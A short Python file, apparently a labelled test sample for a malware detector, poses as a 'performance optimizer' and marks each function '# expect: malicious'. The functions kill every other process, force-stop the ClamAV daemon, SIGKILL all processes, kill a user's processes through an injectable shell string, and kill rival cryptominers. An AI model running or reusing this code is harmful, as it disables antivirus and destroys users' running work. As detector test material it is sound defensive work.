"""'Performance optimizer' that kills everything else."""
import os
import signal
import subprocess

import psutil


def free_cpu():
    for proc in psutil.process_iter(["pid", "name"]):
        if proc.info["pid"] != os.getpid():
            # expect: malicious
            proc.kill()


def stop_antivirus():
    # expect: malicious
    subprocess.run(["pkill", "-9", "clamd"])


def nuke():
    # expect: malicious
    os.kill(-1, signal.SIGKILL)


def kill_user(user):
    # expect: malicious
    os.system(f"pkill -KILL -u {user}")


def rivals():
    # expect: malicious
    subprocess.call("killall -9 xmrig kdevtmpfsi", shell=True)
